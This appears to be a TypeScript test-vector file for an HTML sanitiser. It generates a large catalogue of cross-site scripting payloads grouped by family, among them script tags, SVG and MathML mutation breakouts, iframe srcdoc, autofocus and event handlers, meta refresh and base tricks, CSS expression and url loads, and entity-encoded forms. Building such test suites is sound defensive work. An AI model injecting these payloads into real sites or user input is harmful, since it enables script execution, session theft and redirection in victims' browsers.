import { hostileScript as js, hostileUrl as url } from './hostile-action';
import type { HostileVector } from './vector';

// A name, the fragment, and 'text' where browsers themselves parse the would-be script as text
// (a split or NUL-broken tag name is no script element; what follows it is page text).
type Spec = [name: string, build: (marker: string) => string, shows?: 'text'];

const group = (category: string, specs: readonly Spec[], extra: Partial<HostileVector> = {}): HostileVector[] =>
  specs.map(([name, build, shows]) => ({ category, name, build, ...(shows === undefined ? {} : { shows }), ...extra }));

const SCRIPTS: readonly Spec[] = [
  ['inline', (m) => `<script>${js(m)}</script>`],
  ['upper-case', (m) => `<SCRIPT>${js(m)}</SCRIPT>`],
  ['external', (m) => `<script src="${url(m)}.js"></script>`],
  ['slash-attribute', (m) => `<script/src="${url(m)}.js"></script>`],
  ['module', (m) => `<script type="module">${js(m)}</script>`],
  ['defer-async', (m) => `<script defer async>${js(m)}</script>`],
  ['inside-paragraph', (m) => `<p>Text before <script>${js(m)}</script> text after.</p>`],
  ['inside-list', (m) => `<ul><li>Item<script>${js(m)}</script></li></ul>`],
  ['inside-table-cell', (m) => `<table><tr><td><script>${js(m)}</script>Cell</td></tr></table>`],
  ['split-tag', (m) => `<scr<script>ipt>${js(m)}</scr</script>ipt>`, 'text'],
  ['comment-inside', (m) => `<script><!--\n${js(m)}\n//--></script>`],
  ['vbscript-language', (m) => `<script language="vbscript">msgbox "${m}"</script>`],
  ['for-event', (m) => `<script for="window" event="onload">${js(m)}</script>`],
  ['nul-in-tag', (m) => `<scr\u0000ipt>${js(m)}</scr\u0000ipt>`, 'text'],
  ['in-head', (m) => `<script>${js(m)}</script>`],
];

const SVG_AND_MATH: readonly Spec[] = [
  ['svg-onload', (m) => `<svg onload="${js(m)}"></svg>`],
  ['svg-script', (m) => `<svg><script>${js(m)}</script></svg>`],
  ['svg-script-xlink', (m) => `<svg><script xlink:href="${url(m)}.js"></script></svg>`],
  ['svg-animate-onbegin', (m) => `<svg><animate onbegin="${js(m)}" attributeName="x" dur="1s"></animate></svg>`],
  ['svg-set-href', (m) => `<svg><a><set attributeName="href" to="javascript:${js(m)}"></set><text y="20">Chart</text></a></svg>`],
  ['svg-foreign-object', (m) => `<svg><foreignObject><iframe srcdoc="<script>${js(m)}</script>"></iframe></foreignObject></svg>`],
  [
    'svg-use-data',
    (m) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js(m)}'/></svg>#x"></use></svg>`,
  ],
  ['svg-image-onerror', (m) => `<svg><image href="x" onerror="${js(m)}"></image></svg>`],
  ['svg-style-import', (m) => `<svg><style>@import '${url(m)}.css';</style></svg>`],
  ['svg-title-breakout', (m) => `<svg><title><a id="</title><img src=x onerror=${js(m)}>"></a></title></svg>`],
  ['svg-paragraph-style', (m) => `<svg></p><style><a id="</style><img src=1 onerror=${js(m)}>"></a></style></svg>`],
  ['math-style-img', (m) => `<math><style><img src=x onerror="${js(m)}"></style></math>`],
  ['math-mtext-mglyph', (m) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(m)}"></style></mglyph></table></mtext></math>`],
  ['math-xlink', (m) => `<math><mi xlink:href="javascript:${js(m)}">x</mi></math>`],
  ['math-maction', (m) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(m)}">Click</maction></math>`],
  [
    'math-h1-svg-style',
    (m) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${js(m)}'>"></a></style></mtext></svg></mglyph></h1></mtext></math>`,
  ],
  ['svg-desc-img', (m) => `<table><tr><td><svg><desc><img src=x onerror="${js(m)}"></desc></svg></td></tr></table>`],
];

const FRAMES: readonly Spec[] = [
  ['srcdoc-script', (m) => `<iframe srcdoc="<script>${js(m)}</script>"></iframe>`],
  ['srcdoc-entities', (m) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${js(m)}&quot;&gt;"></iframe>`],
  [
    'srcdoc-sandbox-scripts',
    (m) => `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${url(m)}'</script>"></iframe>`,
  ],
  ['iframe-fallback-text', (m) => `<iframe src="${url(m)}">Frame fallback ${m}</iframe>`],
  ['frameset', (m) => `<frameset onload="${js(m)}"><frame src="${url(m)}"></frameset>`],
  ['object-html', (m) => `<object type="text/html" data="data:text/html,<script>${js(m)}</script>"></object>`],
  ['embed-svg', (m) => `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js(m)}'/>">`],
  ['portal', (m) => `<portal src="${url(m)}"></portal>`],
  ['link-import', (m) => `<link rel="import" href="${url(m)}.html">`],
  ['link-prefetch', (m) => `<link rel="prefetch" href="${url(m)}">`],
];

const FORMS: readonly Spec[] = [
  ['input-autofocus', (m) => `<input autofocus onfocus="${js(m)}">`],
  ['select-autofocus', (m) => `<select autofocus onfocus="${js(m)}"><option>One</option></select>`],
  ['textarea-autofocus', (m) => `<textarea autofocus onfocus="${js(m)}">Notes</textarea>`],
  ['keygen-autofocus', (m) => `<keygen autofocus onfocus="${js(m)}">`],
  ['details-ontoggle', (m) => `<details open ontoggle="${js(m)}"><summary>More</summary>Hidden detail.</details>`],
  [
    'form-outside-button',
    (m) => `<form id="f-${m}" action="${url(m)}"><input name="q" value="secret"></form><button form="f-${m}">Continue</button>`,
  ],
  ['isindex', (m) => `<isindex action="javascript:${js(m)}" type="image">`],
  ['input-image', (m) => `<input type="image" src="x" onerror="${js(m)}">`],
  ['marquee-onstart', (m) => `<marquee onstart="${js(m)}">Breaking news</marquee>`],
  ['dialog-open', (m) => `<dialog open onclose="${js(m)}"><form method="dialog"><button autofocus>Close</button></form></dialog>`],
  ['popover', (m) => `<button popovertarget="p-${m}">Open</button><div id="p-${m}" popover onbeforetoggle="${js(m)}">Popover</div>`],
  [
    'form-in-form',
    (m) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js(m)}"></style></mglyph></form></mtext></math>`,
  ],
];

const META_AND_BASE: readonly Spec[] = [
  ['meta-refresh-head', (m) => `<meta http-equiv="refresh" content="0;url=${url(m)}">`],
  ['meta-refresh-javascript', (m) => `<meta http-equiv="refresh" content="0;url=javascript:${js(m)}">`],
  ['meta-refresh-data', (m) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${btoa(`<script>${js(m)}</script>`)}">`],
  [
    'meta-csp-override',
    (m) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${js(m)}</script>`,
  ],
  ['base-javascript', (m) => `<base href="javascript:${js(m)}//">`],
  ['base-hostile-origin', (m) => `<base href="${url(m)}/">`],
  ['meta-set-cookie', (m) => `<meta http-equiv="set-cookie" content="${m}=1">`],
  ['link-stylesheet-head', (m) => `<link rel="stylesheet" href="${url(m)}.css">`],
];

const CSS: readonly Spec[] = [
  ['style-import', (m) => `<style>@import url('${url(m)}.css');</style>`],
  ['style-background', (m) => `<style>article { background: url('${url(m)}'); }</style>`],
  ['style-font-face', (m) => `<style>@font-face { font-family: x; src: url('${url(m)}.woff'); }</style>`],
  ['style-javascript-url', (m) => `<style>li { list-style-image: url("javascript:${js(m)}"); }</style>`],
  ['style-escaped-scheme', (m) => `<style>p { background: url(\\6a avascript:${js(m)}); }</style>`],
  ['inline-expression', (m) => `<div style="width: expression(${js(m)})">Expression</div>`],
  ['inline-expression-comment', (m) => `<div style="width: expr/**/ession(${js(m)})">Expression</div>`],
  ['inline-behavior', (m) => `<div style="behavior: url('${url(m)}.htc')">Behaviour</div>`],
  ['inline-moz-binding', (m) => `<div style="-moz-binding: url('${url(m)}.xml#x')">Binding</div>`],
  ['inline-image-set', (m) => `<div style="background-image: image-set('${url(m)}' 1x)">Image set</div>`],
  ['inline-list-style', (m) => `<ul style="list-style-image: url('${url(m)}')"><li>Styled item</li></ul>`],
  ['link-stylesheet-body', (m) => `<link rel="stylesheet" href="${url(m)}.css">`],
];

const MUTATION: readonly Spec[] = [
  ['noscript-title', (m) => `<noscript><p title="</noscript><img src=x onerror=${js(m)}>"></p></noscript>`],
  ['template-script', (m) => `<template><script>${js(m)}</script></template>`],
  ['template-img', (m) => `<template><img src=x onerror="${js(m)}"></template>`],
  ['comment-attribute', (m) => `<!--<img src="--><img src=x onerror=${js(m)}//">`],
  ['comment-bang', (m) => `<!-- --!><img src=x onerror="${js(m)}"> -->`],
  ['comment-dashes', (m) => `<!----><img src=x onerror="${js(m)}"><!---->`],
  ['textarea-breakout', (m) => `<textarea><img title="</textarea><img src=x onerror=${js(m)}>"></textarea>`],
  ['title-breakout', (m) => `<title><img title="</title><img src=x onerror=${js(m)}>"></title>`],
  ['style-breakout', (m) => `<style><img title="</style><img src=x onerror=${js(m)}>"></style>`],
  ['xmp-breakout', (m) => `<xmp><img title="</xmp><img src=x onerror=${js(m)}>"></xmp>`],
  ['noembed-breakout', (m) => `<noembed><img title="</noembed><img src=x onerror=${js(m)}>"></noembed>`],
  ['noframes-breakout', (m) => `<noframes><img title="</noframes><img src=x onerror=${js(m)}>"></noframes>`],
  ['iframe-breakout', (m) => `<iframe><img title="</iframe><img src=x onerror=${js(m)}>"></iframe>`],
  ['select-template-style', (m) => `<select><template><style><img src=x onerror="${js(m)}"></style></template></select>`],
  ['cdata', (m) => `<![CDATA[><img src=x onerror="${js(m)}">]]>`],
  ['processing-instruction', (m) => `<?xml-stylesheet href="javascript:${js(m)}"?>`],
  ['quote-soup', (m) => `<img """><script>${js(m)}</script>">`],
  ['backtick-attribute', (m) => `<img src=\`x\` onerror=${js(m)}>`],
  ['entity-handler', (m) => `<img src=x onerror="${[...js(m)].map((c) => `&#${c.charCodeAt(0)};`).join('')}">`],
  ['link-comment', (m) => `<a href="javascript:${js(m)}"<!-- -->Link</a>`],
  ['nested-forms-button', (m) => `<div><form id="t-${m}"></form><button form="t-${m}" formaction="javascript:${js(m)}">Go</button></div>`],
  ['namespace-svg-p-style', (m) => `<svg><p><style><img src=x onerror="${js(m)}"></style></p></svg>`],
];

// Markup written with entities, so it is text; it must appear exactly so, and stay text.
const ENCODED: ReadonlyArray<[name: string, build: (marker: string) => string, literal: (marker: string) => string]> = [
  ['script', (m) => `<p>The post said &lt;script&gt;${js(m)}&lt;/script&gt; and nothing else.</p>`, (m) => `<script>${js(m)}</script>`],
  ['img', (m) => `<p>It read &lt;img src=x onerror=${js(m)}&gt; in full.</p>`, (m) => `<img src=x onerror=${js(m)}>`],
  ['numeric', (m) => `<p>Code: &#60;svg onload=${js(m)}&#62;.</p>`, (m) => `<svg onload=${js(m)}>`],
  ['hex', (m) => `<p>Code: &#x3C;iframe src=javascript:${js(m)}&#x3E;.</p>`, (m) => `<iframe src=javascript:${js(m)}>`],
  [
    'double-encoded',
    (m) => `<p>Escaped: &amp;lt;script&amp;gt;${m}&amp;lt;/script&amp;gt;.</p>`,
    (m) => `&lt;script&gt;${m}&lt;/script&gt;`,
  ],
  [
    'code-element',
    (m) => `<p><code>&lt;a href="javascript:${js(m)}"&gt;x&lt;/a&gt;</code></p>`,
    (m) => `<a href="javascript:${js(m)}">x</a>`,
  ],
  ['pre-element', (m) => `<pre>&lt;body onload="${js(m)}"&gt;</pre>`, (m) => `<body onload="${js(m)}">`],
  ['fullwidth-brackets', (m) => `<p>＜script＞${js(m)}＜/script＞</p>`, (m) => `＜script＞${js(m)}＜/script＞`],
  ['plain-javascript-url', (m) => `<p>The link pointed to javascript:${js(m)} instead.</p>`, (m) => `javascript:${js(m)}`],
  ['attribute-in-text', (m) => `<p>onerror="${m}" was in the markup.</p>`, (m) => `onerror="${m}"`],
];

/** Hand-written tricks, by family, with the marker in every part that would act. */
export const MARKUP_VECTORS: readonly HostileVector[] = [
  ...group(
    'script',
    SCRIPTS.filter(([name]) => name !== 'in-head'),
  ),
  ...group(
    'script',
    SCRIPTS.filter(([name]) => name === 'in-head'),
    { where: 'head' },
  ),
  ...group('svg-math', SVG_AND_MATH),
  ...group('frame', FRAMES),
  ...group('form', FORMS),
  ...group('meta-base', META_AND_BASE, { where: 'head' }),
  ...group(
    'meta-base',
    META_AND_BASE.map(([name, build]): Spec => [`${name}-in-body`, build]),
  ),
  ...group('css', CSS),
  ...group('mutation', MUTATION),
  ...ENCODED.map(([name, build, literal]) => ({ category: 'encoded', name, build, shows: (m: string) => ({ literal: literal(m) }) })),
];
